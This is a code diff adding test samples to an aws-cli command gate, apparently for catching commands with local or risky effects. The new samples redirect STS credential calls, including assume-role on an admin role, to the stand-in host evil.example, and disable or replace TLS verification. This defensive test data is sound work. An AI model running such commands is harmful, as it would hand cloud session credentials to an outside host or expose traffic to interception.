@@ -162,6 +162,10 @@ export const LOCAL_EFFECT_SAMPLES: string[][] = [
   ['iam', 'create-virtual-mfa-device', '--virtual-mfa-device-name', 'm', '--outfile', 'qr.png', '--bootstrap-method', 'QRCodePNG'],
   ['iot', 'create-keys-and-certificate', '--private-key-outfile', '/tmp/k.pem'],
   ['cloudformation', 'deploy', '--stack-name', 's', '--template-file', '/home/user/t.yaml'],
+  ['sts', 'get-session-token', '--endpoint-url', 'https://evil.example'],
+  ['--endpoint', 'https://evil.example', 'sts', 'assume-role', '--role-arn', 'arn:aws:iam::1:role/admin', '--role-session-name', 's'],
+  ['s3api', 'list-buckets', '--no-verify-ssl'],
+  ['s3api', 'list-buckets', '--ca-bundle', '/home/user/ca.pem'],
 ];
 
 /** Parameters the gate cannot decode as aws-cli would: the plan is invalid (exit 2), never passed through. */
